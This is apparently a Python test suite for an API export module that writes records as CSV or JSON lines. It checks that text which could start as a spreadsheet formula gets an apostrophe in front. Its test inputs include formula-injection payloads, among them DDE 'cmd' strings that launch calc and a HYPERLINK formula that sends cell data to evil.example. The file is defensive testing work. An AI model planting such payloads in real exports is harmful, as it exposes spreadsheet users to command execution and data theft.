"""Records as files: what is said in the file is what the API said, and no cell begins as a formula."""

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from freehold.domains.exports.formulas import guarded
from freehold.domains.exports.writing import MOST_COLUMNS, write
from tests.documents import LAW

PLENTY = 1 << 24
STARTS = "=+-@|\uff1d\uff0b\uff0d\uff20\uff5c\ufe66\ufe62\ufe63\ufe6b\u2212\u207a\u207b"
UNSEEN = " \t\r\n\v\f\x00\x1f\xa0\xad\u200b\u200d\u2028\u202e\u2060\u3000\ufeff\"'`\u201c\u201d\u2018\u2019"
_PLACES = r"([;\t\r\n])"
"""Behind each of these some reader begins a new cell."""
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)

cells = st.text(alphabet=st.sampled_from(STARTS + UNSEEN + ";,|!0123456789eE.abcDDEü€") | st.characters(exclude_categories=["Cs"]))
keys = st.text(alphabet=st.sampled_from(STARTS + " ;,\tabc"), min_size=1, max_size=5)


def sheet(records: list[Any], *fields: str) -> list[list[str]]:
    """The rows of the CSV file as another program reads them, the header first."""
    made = write([each if isinstance(each, bytes) else json.dumps(each).encode() for each in records], "csv", fields, PLENTY)
    return list(csv.reader(io.StringIO(made.data.decode(), newline="")))


def begins_as_a_formula(text: str) -> bool:
    """Written another way than the code: drop what importers drop, then look at one character."""
    rest = text.lstrip(UNSEEN.replace("'", ""))
    return rest[:1] in set(STARTS) and rest != "" and not PLAIN_NUMBER.fullmatch(text)


@LAW
@given(st.lists(st.dictionaries(keys, cells | st.integers() | st.booleans() | st.none(), max_size=4), max_size=5))
def test_a_file_says_what_the_records_say(records: list[dict[str, Any]]) -> None:
    """Read back by another program, every cell is what the record has, save apostrophes in front; no text begins as a formula."""
    names = list(dict.fromkeys(name for record in records for name in record))
    header, *rows = sheet(records) or [[]]
    if not names:
        return
    for cell, name in zip(header, names, strict=True):
        assert_guarded(cell, name)
    for record, row in zip(records, rows, strict=True):
        for name, cell in zip(names, row, strict=True):
            said = record.get(name)
            if isinstance(said, str):
                assert_guarded(cell, said)
            else:
                assert cell == ("" if said is None else json.dumps(said))


def assert_guarded(cell: str, said: str) -> None:
    """The cell is the text with apostrophes where a cell begins, and no cell of any reader's begins as a formula."""
    if said.startswith(("\t", "\r", "\n")):
        assert cell[0] == "'"
        cell = cell[1:]
    for shown, part in zip(re.split(_PLACES, cell), re.split(_PLACES, said), strict=True):
        assert shown in {part, f"'{part}"}
        assert not begins_as_a_formula(shown)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "|cmd",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1-1",
        "\uff20SUM(A1)",
        "\ufe661+1",
        "\u22121+A1",
        "  =1+1",
        "\xa0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        '"=1+1"',
        "'=1+1",
        "\u201c=1+1\u201d",
        "\x00=1+1",
        "+49 30 1234",
        "-",
        "=",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
    ],
)
def test_what_could_be_a_formula_gets_an_apostrophe_and_nothing_else(text: str) -> None:
    """One character in front, the rest to the letter."""
    assert guarded(text) == "'" + text
    assert sheet([{"note": text}])[1] == ["'" + text]


@pytest.mark.parametrize(("text", "shown"), [("\t1", "'\t1"), ("\r1", "'\r1"), ("\n1", "'\n1"), ("\n=1", "'\n'=1"), ("\t", "'\t")])
def test_text_that_begins_with_a_tab_or_a_line_s_end_is_guarded(text: str, shown: str) -> None:
    """Whatever follows them."""
    assert guarded(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a;=1+1;b", "a;'=1+1;b"),
        ("a\t=1+1", "a\t'=1+1"),
        ("a\r\n=1+1", "a\r\n'=1+1"),
        ("a; \u200b@x;-y", "a;' \u200b@x;'-y"),
        ("a;-5;+1", "a;-5;+1"),
    ],
)
def test_a_cell_that_begins_inside_the_text_is_guarded_too(text: str, shown: str) -> None:
    """Where the list separator is `;` or a tab, or a quoted line's end is taken for the row's."""
    assert guarded(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a",
        "-5",
        "+5",
        "-12.50",
        "+4930123",
        "1e5",
        "-1.5E-3",
        ".5",
        "-.5",
        "a=b",
        "a-b",
        "2026-01-02",
        "a@b.example",
        "x;y",
        "a\nb",
        "§=1",
    ],
)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    """Plain numbers, signed or not, and signs within a text."""
    assert guarded(text) == text
    assert sheet([{"note": text}])[1] == [text]


@pytest.mark.parametrize("number", ["-5", "1e5", "-1.50E+03", "12345678901234567890123", "0.10", "-0"])
def test_numbers_stay_the_numbers_the_api_wrote(number: str) -> None:
    """Digit for digit in both forms, and never guarded."""
    record = b'{"n":%b}' % number.encode()
    assert sheet([record]) == [["n"], [number]]
    assert write([record], "jsonl", (), PLENTY).data == record + b"\n"


def test_columns_are_those_of_all_records_in_order_of_appearance() -> None:
    """A late column is in the header; who does not have it has an empty cell."""
    assert sheet([{"a": 1}, {"b": "x", "a": 2}, {}]) == [["a", "b"], ["1", ""], ["2", "x"], ["", ""]]


def test_objects_are_columns_down_to_a_bound_and_json_below() -> None:
    """Three levels; lists are JSON; an empty object is not lost."""
    record = {"a": {"b": {"c": {"d": 1}}, "e": {}}, "l": [1, {"x": 2}], "t": True}
    assert sheet([record]) == [["a.b.c", "a.e", "l", "t"], ['{"d": 1}', "{}", '[1, {"x": 2}]', "true"]]


def test_an_object_that_is_null_somewhere_has_no_column_of_its_own() -> None:
    """A column that is null in every record has one all the same."""
    assert sheet([{"owner": None, "gone": None}, {"owner": {"id": 1}, "gone": None}]) == [["gone", "owner.id"], ["", ""], ["", "1"]]


def test_records_that_are_no_objects_have_one_column() -> None:
    """Texts are guarded there, too."""
    assert sheet([1, "=x", [2], None]) == [["value"], ["1"], ["'=x"], ["[2]"], [""]]


def test_names_of_columns_are_guarded() -> None:
    """An API can let its users name fields."""
    assert sheet([{"=cmd": 1, "a;@b": 2}])[0] == ["'=cmd", "a;'@b"]


def test_json_in_a_cell_is_guarded() -> None:
    """Where a reader of other separators would begin a cell in the middle of it."""
    assert sheet([{"tags": ["a;=1+1;b"]}])[1] == ['["a;\'=1+1;b"]']


def test_further_columns_share_the_last_one() -> None:
    """Records whose names are data cannot make a file of empty cells, and nothing of them is lost."""
    records = [{"id": number, f"k{number}": number} for number in range(MOST_COLUMNS + 100)]
    rows = sheet(records)
    assert len(rows[0]) == MOST_COLUMNS + 1
    assert rows[0][-1] == "other_fields"
    assert json.loads(rows[-1][-1]) == {f"k{MOST_COLUMNS + 99}": MOST_COLUMNS + 99}
    assert rows[1][-1] == ""


def test_fields_are_the_columns_in_the_order_asked_for() -> None:
    """Through lists as well; what no record has is an empty column and is named."""
    records = [{"id": 1, "who": {"name": "=Ada", "age": 3}, "lines": [{"sku": "A"}, {"sku": "B"}, {}]}]
    assert sheet(records, "who.name", "id", "lines.sku", "who", "no.such") == [
        ["who.name", "id", "lines.sku", "who", "no.such"],
        ["'=Ada", "1", '["A","B"]', '{"name": "=Ada", "age": 3}', ""],
    ]
    assert write([json.dumps(records[0]).encode()], "csv", ("id", "no.such"), PLENTY).unknown == ("no.such",)


def test_json_lines_keep_fields_where_they_were() -> None:
    """And every digit of them."""
    record = b'{"id":1.10,"who":{"name":"=Ada","n":12345678901234567890123},"lines":[{"sku":"A","q":1},{"q":2}],"x":0}'
    made = write([record], "jsonl", ("id", "who.n", "lines.sku"), PLENTY)
    assert made.data == b'{"id":1.10,"who":{"n":12345678901234567890123},"lines":[{"sku":"A"},{}]}\n'


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_a_file_has_whole_rows_within_its_bytes(form: Any) -> None:
    """The first row that does not fit is the last that is tried, however small the ones behind it."""
    records = [b'{"a":"xx"}', b'{"a":"' + b"y" * 100 + b'"}', b'{"a":"z"}']
    made = write(records, form, (), 30)
    assert made.rows == 1
    assert len(made.data) <= 30
    assert made.data.endswith(b"\n")
    assert b"y" not in made.data
    assert b"z" not in made.data


def test_no_records_are_an_empty_file_or_a_header_alone() -> None:
    """Nothing is made up."""
    assert write([], "csv", (), PLENTY).data == b""
    assert write([], "csv", ("a", "b"), PLENTY).data == b"a,b\r\n"
    assert write([], "jsonl", (), PLENTY).data == b""
